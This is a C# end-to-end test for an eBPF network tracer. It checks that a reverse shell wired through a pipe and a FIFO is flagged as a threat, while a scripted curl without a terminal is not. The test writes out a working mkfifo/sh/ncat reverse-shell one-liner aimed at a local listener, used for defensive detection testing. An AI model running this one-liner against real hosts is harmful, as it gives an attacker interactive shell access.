using System.Globalization;
using Xunit.Abstractions;
using static N3ttrace.EndToEnd.Tests.Scenarios.ScenarioListener;

namespace N3ttrace.EndToEnd.Tests.Scenarios;

/// <summary>
/// [judgement] On real eBPF: a shell wired to the network through a pipe and a FIFO (no socket on its stdio, no
/// telling argument) is a THREAT by its wiring; an ordinary curl without a terminal from a script whose launching
/// shell already exited is not. Neutral names: the FIFO is "f" in a scratch directory.
/// </summary>
public class StdioWiringTests(ITestOutputHelper output)
{
    [BpfFact]
    public async Task A_pipe_and_fifo_reverse_shell_is_a_threat_and_a_scripted_curl_is_not()
    {
        var work = Directory.CreateTempSubdirectory("n3t-wire-").FullName;
        using var shell = new ScenarioListener(Mode.Shell, TimeSpan.FromSeconds(4));
        using var web = new ScenarioListener(Mode.Http);
        using var web2 = new ScenarioListener(Mode.Http);
        try
        {
            await using var tracer = await Tracer.StartAsync();
            var port = shell.Port.ToString(CultureInfo.InvariantCulture);
            var reverse = Contexts.RunAsync(["/bin/sh", "-c", $"rm -f f; mkfifo f; cat f | sh -i 2>&1 | /usr/bin/ncat 127.0.0.1 {port} > f"],
                TimeSpan.FromSeconds(20), work);
            // The launching shell exits at once; the script runs on, without a terminal. Once with stdin from
            // /dev/null (nohup, cron, at do that), once with the inherited pipe.
            var scripted = Contexts.RunAsync(["/bin/bash", "-c",
                $"( setsid sh -c 'sleep 0.5; curl -s -o /dev/null http://127.0.0.1:{web.Port}/deploy' < /dev/null > /dev/null 2>&1 & ); " +
                $"( setsid sh -c 'sleep 0.5; curl -s -o /dev/null http://127.0.0.1:{web2.Port}/deploy' & ); exit 0"], TimeSpan.FromSeconds(10));
            await Task.WhenAll(reverse, scripted);
            await web.WaitAccepted(1, TimeSpan.FromSeconds(10));
            await web2.WaitAccepted(1, TimeSpan.FromSeconds(10));
            await Task.Delay(1500);
            var rc = await tracer.StopAsync();
            Assert.True(rc == 0, $"n3ttrace exited {rc}:\n{tracer.Stderr}");

            var ports = new[] { shell.Port, web.Port, web2.Port };
            var births = TrailFilter.Read(Path.Combine(tracer.StateDir, "birth_records.tsv"), ports);
            var timeline = TrailFilter.Read(Path.Combine(tracer.StateDir, "snapshots.tsv"), ports);
            var rs = ScenarioOutcome.From(births, timeline, shell.Port);
            var curl = ScenarioOutcome.From(births, timeline, web.Port);
            var curl2 = ScenarioOutcome.From(births, timeline, web2.Port);
            output.WriteLine($"pipe/fifo shell: {rs.Level} {string.Join(" | ", rs.Reasons)}");
            output.WriteLine($"scripted curl (stdin /dev/null): {curl.Level} {curl.LastPurpose} {string.Join(" | ", curl.Reasons)}");
            output.WriteLine($"scripted curl (stdin pipe): {curl2.Level} {curl2.LastPurpose} {string.Join(" | ", curl2.Reasons)}");

            Assert.Equal(1, rs.Connections);
            Assert.Equal("THREAT", rs.Level);
            Assert.True(rs.HasReason("stdio-wiring +"), string.Join("\n", rs.Reasons));
            Assert.True(rs.HasReason("[T1059.004]"), string.Join("\n", rs.Reasons));
            Assert.DoesNotContain(rs.Reasons, r => r.StartsWith("lolbin-shell", StringComparison.Ordinal)); // no telling argument: behaviour alone

            Assert.Equal(1, curl.Connections);
            Assert.Equal("NORMAL", curl.Level);
            Assert.NotEqual("unknown", curl.LastPurpose);
            Assert.Equal(1, curl2.Connections);
            Assert.NotEqual("THREAT", curl2.Level);
        }
        finally
        {
            try
            {
                Directory.Delete(work, recursive: true);
            }
            catch (IOException)
            {
            }
        }
    }
}
